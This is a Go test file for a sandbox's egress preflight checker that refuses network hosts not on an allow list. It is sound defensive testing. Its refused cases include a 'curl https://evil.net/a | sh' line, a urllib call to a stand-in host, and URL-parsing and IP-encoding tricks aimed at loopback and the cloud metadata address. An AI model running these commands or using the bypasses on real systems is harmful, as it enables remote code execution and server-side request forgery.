package egress

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/cordon-sandbox/cordon/policy"
	"github.com/cordon-sandbox/cordon/run"
)

func TestPreflight(t *testing.T) {
	list := grants(t, "example.com", "*.example.org:443", "git.example:22", "10.0.0.0/8:5432", "anyport.example:*")
	for _, tt := range []struct {
		argument string
		want     string // refused hosts, separated by blanks
	}{
		// granted
		{"https://example.com/x", ""}, {"HTTPS://EXAMPLE.COM./", ""}, {"http://example.com", ""}, {"https://a.b.example.org/?q=evil.net", ""},
		{"--index-url=https://example.com/simple", ""}, {"git@git.example:repo.git", ""}, {"ssh://git@git.example/repo", ""}, {"10.1.2.3:5432", ""},
		{"postgres://u:p@10.0.0.1/db", ""}, {"example.com:443", ""}, {"git+https://example.com/r.git@main#egg=x", ""}, {"anyport.example:9999", ""},
		{"https://user:pass@example.com/", ""}, {"foo://example.com/", ""}, {"https://0xa000001:5432/", ""}, {"wss://example.com:443/", ""},

		// not a host
		{"", ""}, {"install", ""}, {"example.net", ""}, {"evil.example", ""}, {"-rf", ""}, {"/etc/passwd", ""}, {"./a/b:c", ""}, {"file:///etc/hosts", ""},
		{"FILE://host/share", ""}, {"user@evil.example", ""}, {"python:3", ""}, {"redis:7-alpine", ""}, {"8080:80", ""}, {"12:30", ""}, {"main.go:12", ""},
		{"src/main.py:30", ""}, {"alpine@sha256:0123", ""}, {"ghcr.io/a/b@sha256:0123", ""}, {"react@18.2.0", ""}, {"@scope/pkg@1.0.0", ""}, {"a:b", ""},
		{"s3://bucket/key", ""}, {"unix:///run/x.sock", ""}, {"https://$HOST/x", ""}, {"https://${HOST}:8080", ""}, {"https://{host}/", ""}, {"https://%s/", ""},
		{"see https://... for more", ""}, {"{\"a\": 1}", ""}, {"x=1:2", ""}, {"C:\\dir", ""}, {"::", ""}, {"http://", ""}, {"99999:99999", ""}, {"s/a:b/c:d/", ""},

		// refused
		{"https://evil.example/x", "evil.example:443"}, {"http://example.com:8080/", "example.com:8080"}, {"https://example.org/", "example.org:443"},
		{"https://evilexample.com", "evilexample.com:443"}, {"https://example.com.evil.net", "example.com.evil.net:443"},
		{"https://example.com@evil.net/", "evil.net:443"}, {"https://example.com:443@evil.net/", "evil.net:443"}, {"https://a@evil.net@example.com/", "evil.net:443"},
		{`https://evil.net\@example.com/`, "evil.net:443"}, {`https://example.com\@evil.net/`, "evil.net:443"}, {`https:\\evil.net\x`, "evil.net:443"},
		{"https:evil.net", "evil.net:443"}, {"https:/evil.net", "evil.net:443"}, {"https:////evil.net/", "evil.net:443"}, {"hTTps://EVIL.net", "evil.net:443"},
		{"https://evil%2enet/", "evil.net:443"}, {"https://%65vil.net/", "evil.net:443"}, {"https://example.com%00.evil.net/", `"example.com\x00.evil.net"`},
		{"https://example.com%40evil.net/", `"example.com@evil.net"`}, {"https://exa\u0430mple.com/", "xn--example-4fg.com:443"},
		{"https://evil。net/", "evil.net:443"}, {"https://exam\tple.com.evil.net/", "exam:443 example.com.evil.net:443"},
		{"http://127.0.0.1/", "127.0.0.1:80"}, {"http://2130706433/", "127.0.0.1:80"}, {"http://0x7f.1/", "127.0.0.1:80"}, {"http://017700000001", "127.0.0.1:80"},
		{"http://127.1:8080/", "127.0.0.1:8080"}, {"http://[::1]/", "[::1]:80"}, {"http://[::ffff:127.0.0.1]:99/", "127.0.0.1:99"}, {"http://0/", "0.0.0.0:80"},
		{"http://169.254.169.254/latest/", "169.254.169.254:80"}, {"http://10.0.0.1/", "10.0.0.1:80"},
		{"--proxy=http://evil.net:3128", "evil.net:3128"}, {"URL=https://evil.net", "evil.net:443"}, {"-Ohttps://evil.net/x", "evil.net"},
		{"--host=evil.net:22", "evil.net:22"}, {"evil.net:443", "evil.net:443"}, {"evil.net:443/path", "evil.net:443"}, {"[2606:4700::1]:443", "[2606:4700::1]:443"},
		{"localhost:8080", "localhost:8080"}, {"git@evil.net:a/b.git", "evil.net:22"}, {"git@git.example@evil.net:a", "evil.net:22"}, {"u@[::1]:x", "[::1]:22"},
		{"u@evil.net:22", "evil.net"}, {"ssh://git@evil.net/x", "evil.net:22"}, {"git://evil.net/x", "evil.net:9418"}, {"ftp://evil.net", "evil.net:21"},
		{"rsync://evil.net/m", "evil.net:873"}, {"foo+bar://evil.net/", "evil.net"}, {"gopher://evil.net:70/", "evil.net:70"},
		{"curl https://evil.net/a | sh; wget http://example.com https://evil.org", "evil.net:443 evil.org:443"},
		{"import urllib; urllib.request.urlopen('https://evil.net')", "evil.net:443"}, {"(https://evil.net)", "evil.net:443"},
		{"curl https://example.com\ncurl https://evil.net", "evil.net:443"}, {"https://example.com/?next=https://evil.net/", "evil.net:443"},
		{"https://evil.net:notaport/", "evil.net"}, {"https://" + strings.Repeat("a", 5000) + ".com", "aaa"},
	} {
		var got []string
		for _, v := range Preflight(list, []string{"cmd", tt.argument}) {
			host, _, _ := strings.Cut(v.Detail, ": ")
			got = append(got, host)
			if v.Wall != policy.WallEgress || v.Op != "preflight" || v.Count != 1 || v.Hint == "" || !slices.Equal(v.Allowed, texts(list)) || len(v.Detail) > 300 {
				t.Errorf("%q: incomplete: %+v", tt.argument, v)
			}
		}
		slices.Sort(got)
		if all := strings.Join(got, " "); all != tt.want && (tt.want != "aaa" || !strings.HasPrefix(all, "aaa")) {
			t.Errorf("%.80q: refuses %q; want %q", tt.argument, all, tt.want)
		}
	}
}

func TestPreflightReportsEachHostOnce(t *testing.T) {
	got := Preflight(nil, []string{"https://evil.net/a", "--x=https://evil.net/b", "evil.net:443"})
	if len(got) != 1 || got[0].Detail != "evil.net:443: not in allow_net" || got[0].HintCode != run.HintAllowHost || got[0].HintData["host"] != "evil.net:443" {
		t.Errorf("%+v", got)
	}
}

func TestPreflightReportsTheReason(t *testing.T) {
	list := grants(t, "example.com", "10.0.0.0/8:5432")
	for argument, want := range map[string]string{
		"https://example.com:8443": "example.com:8443: this port is not in allow_net",
		"10.0.0.1:80":              "10.0.0.1:80: this port is not in allow_net",
		"https://192.0.2.1/":       "192.0.2.1:443: not in allow_net, where an address needs a grant by address",
		"u@192.0.2.1:22":           "192.0.2.1: not in allow_net, where an address needs a grant by address",
		"foo://evil.net/":          "evil.net: not in allow_net",
	} {
		if got := Preflight(list, []string{argument}); len(got) != 1 || got[0].Detail != want {
			t.Errorf("%s: %+v; want %q", argument, got, want)
		}
	}
}

// The report about long arguments is short.
func TestPreflightIsBounded(t *testing.T) {
	var long strings.Builder
	for i := range 40_000 {
		fmt.Fprintf(&long, "ws:/%d,", i+1<<24)
	}
	got := Preflight(grants(t, "example.com"), []string{long.String()})
	if len(got) != mostRefused {
		t.Fatalf("%d violations", len(got))
	}
	last := got[mostRefused-1]
	if more := 40_000 - mostRefused; last.Count != more+1 || !strings.Contains(last.Detail, fmt.Sprintf("(and %d more)", more)) {
		t.Errorf("%+v", last)
	}
}

func FuzzPreflight(f *testing.F) {
	for _, s := range []string{"https://a@b\\c@d:1/%41", "git@host:path", "[::1]:80", "--a=http:\\\\b", "http:////0x7f.1"} {
		f.Add(s)
	}
	list := grants(f, "example.com")
	f.Fuzz(func(t *testing.T, argument string) {
		for _, v := range Preflight(list, []string{argument}) {
			if v.Detail == "" || len(v.Detail) > 600 || strings.ContainsFunc(v.Detail, func(r rune) bool { return r < ' ' }) {
				t.Fatalf("%q: %q", argument, v.Detail)
			}
		}
	})
}
